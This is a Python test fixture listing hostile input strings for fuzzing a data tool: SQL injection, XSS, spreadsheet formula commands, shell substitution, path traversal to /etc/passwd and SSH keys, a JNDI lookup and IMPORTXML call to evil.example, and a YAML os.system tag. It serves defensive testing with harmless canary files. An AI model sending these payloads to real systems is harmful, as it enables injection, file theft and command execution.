"""Texts that somebody could mean harm with, one a row; every door is tried with every one of them.

Those that would run something leave a mark if they are run: they write MARK, or read SECRET, whose word then stands
where it never may.
"""

MARK, SECRET = "/tmp/plumbline-hostile-mark", "/tmp/plumbline-hostile-secret"
WORD = "word-that-is-read-by-nobody"  # what the secret file and the secret variable hold
VARIABLE = "PLUMBLINE_HOSTILE"

TEXTS: dict[str, str] = {
    # SQL
    "sql comment": "'; DROP TABLE plumbline_runs; --",
    "sql copy": f"x' ; COPY (SELECT 1) TO '{MARK}'; --",
    "sql identifier": f'x" FROM frame; COPY (SELECT 1) TO \'{MARK}\'; --',
    "sql true": "' OR '1'='1",
    "sql read": f"(SELECT content FROM read_text('{SECRET}'))",
    "sql variable": f"getenv('{VARIABLE}')",
    "sql attach": f"x'; ATTACH '{MARK}' AS m; --",
    "sql install": "'; INSTALL httpfs; LOAD httpfs; --",
    "sql pragma": "'; SET enable_external_access = true; --",
    "sql union": "\" UNION ALL SELECT * FROM duckdb_settings() --",
    "sql marks": "? ?1 $1 :name %s",
    "sql nested comment": "/* /* */ */ -- \n;",
    "one quote": "'",
    "one double quote": '"',
    "backtick": "`",
    "backslash": "\\",
    "backslash quote": "\\\"\\'",
    # what cannot be seen
    "nul": "a\0b",
    "newline": "a\nb",
    "carriage return": "a\rb",
    "header": "a\r\nBcc: everybody@example.com\r\n\r\nhello",
    "tab": "\ta",
    "escape sequences": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x07x",
    "bell": "\x07\x08\x7f",
    "right to left": "a\u202egnp.exe\u202c",
    "isolate": "\u2067abc\u2066def\u2069",
    "zero width": "ze\u200bro\u200d\ufeff",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "combining": "a" + "\u0301\u0316" * 300,
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "private": "\ue000\uffff\U0010ffff",
    "half a pair": "half \ud800 pair",
    "byte that is no text": "a\udcffb",
    "spaces": "   ",
    "no-break": "\xa0\u3000",
    "empty": "",
    # long
    "long": "A" * 10_000,
    "long words": "ab " * 3_000,
    "wide": "𝒳" * 2_000,
    "emoji family": "👩‍👩‍👧‍👦" * 50,
    # HTML and scripts
    "script": f"<script>fetch('file://{SECRET}')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "end of everything": "</script></style></textarea></title>--><svg onload=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)\" x=\"",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "comment": "<!-- --!> <![CDATA[ ]]>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript": "javascript:alert(document.cookie)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # Markdown
    "link": "[click](javascript:alert(1))",
    "picture": "![x](https://evil.example/pixel.png)",
    "markdown": "# *a* **b** _c_ ~~d~~ `e` > f | g",
    "code fence": "```\n```{=html}\n<b>",
    "autolink": "<https://evil.example> www.evil.example a@evil.example",
    "reference link": "[x]: https://evil.example 'y'",
    "streamlit": ":red[x] :material/home: :smile: :streamlit: :blue-badge[x]",
    "chat": "<!channel> <@U1> <https://evil.example|click> @here",
    # LaTeX and Typst
    "latex": f"$\\input{{{SECRET}}}$ \\write18{{touch {MARK}}}",
    "typst read": f'#read("{SECRET}")',
    "typst code": '#{ panic() } #eval("1+1") ]#pagebreak()[',
    "typst import": '#import "@preview/cetz:0.1"',
    "typst marks": "= a\n- b\n+ c\n@d <e> $f$ *g* _h_ ~ -- ... // i /* j",
    # spreadsheets
    "formula equals": "=1+1",
    "formula command": f"=cmd|'/c touch {MARK}'!A1",
    "formula plus": "+1+1",
    "formula minus": "-1+cmd|' /c calc'!A0",
    "formula at": "@SUM(1,1)",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula newline": "\n=1+1",
    "formula space": "  =HYPERLINK(\"https://evil.example\")",
    "formula wide": "＝1+1",
    "formula import": '=IMPORTXML("https://evil.example","//a")',
    "formula quoted": '"=1+1"',
    "formula later": 'a,=1+1\n=1+1;"=1+1"',
    # printf, templates, environments
    "printf": "%s%s%n%d%x%1000000000d",
    "format": "{0.__class__.__mro__} {} {name!r:>{width}}",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "lookup": "${jndi:ldap://evil.example/a}",
    "variable": f"${{{VARIABLE}}}",
    "shell": f"$(touch {MARK}) `touch {MARK}` ; touch {MARK} & | > {MARK}",
    # paths
    "path up": "../../../../../../etc/passwd",
    "path up windows": "..\\..\\..\\windows\\win.ini",
    "path secret": SECRET,
    "path home": "~/.ssh/id_rsa",
    "path encoded": "..%2f..%2fetc%2fpasswd",
    "path dots": "..",
    "path dot": ".",
    "path device": "/dev/zero",
    "path process": "/proc/self/environ",
    "path glob": "/**/*",
    "path brackets": "[!a]*?{b,c}",
    "path windows device": "CON",
    "path windows stream": "a.parquet::$DATA",
    "path network": "\\\\evil.example\\share\\a.csv",
    "path hidden": ".hidden",
    "option": "--help",
    "option short": "-o",
    # addresses
    "file address": f"file://{SECRET}",
    "metadata address": "http://169.254.169.254/latest/meta-data/",
    "bucket": "s3://evil/a.parquet",
    "database": f"sqlite:///{SECRET}?table=x",
    "address with password": "postgresql://user:secret@evil.example/db?table=x",
    "unknown scheme": "gopher://evil.example/_x",
    # YAML and JSON
    "yaml tag": f"!!python/object/apply:os.system ['touch {MARK}']",
    "yaml anchors": "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n",
    "yaml circle": "&a [*a]",
    "yaml merge": "<<: {a: 1}",
    "yaml document": "a\n---\nb\n...\n",
    "yaml directive": "%YAML 9.9\n---\nx",
    "json deep": "[" * 450,
    "json object": '{"a":' * 200,
    "json prototype": '{"__proto__": {"x": 1}, "constructor": null}',
    # numbers and moments
    "number huge": "1e999999",
    "number digits": "9" * 5_000,
    "number minus": "-170141183460469231731687303715884105729",
    "not a number": "NaN",
    "infinite": "-Infinity",
    "number hexadecimal": "0x1p-1074",
    "number arabic": "٣٤",
    "number underscores": "1_000",
    "date far": "99999-12-31",
    "date none": "2013-02-30",
    "date before": "0000-00-00",
    "window far": "0001-01-01T00:00+23:59..9999-12-31T23:59-23:59",
    "window backwards": "2013-04-29..2013-04-22",
    # words that programs take for something else
    "null word": "null",
    "true word": "true",
    "none word": "None",
    "all word": "all",
    "missing word": "(missing)",
    "prototype": "__proto__",
    "dunder": "__class__",
    "joint": "a=1 & b=2",
    "operators": ">=<=!=in(not_in(between(is_null",
    "list": 'x in("a","b',
    "prometheus": 'a"} 1\nplumbline_severity{monitor="b',
    "sign of the times": "😀 größe 模型温度 درجة",
}  # fmt: skip


def is_text(text: str) -> bool:
    """Whether a text can be written as UTF-8: half a surrogate pair cannot."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


STORABLE = {name: text for name, text in TEXTS.items() if is_text(text)}
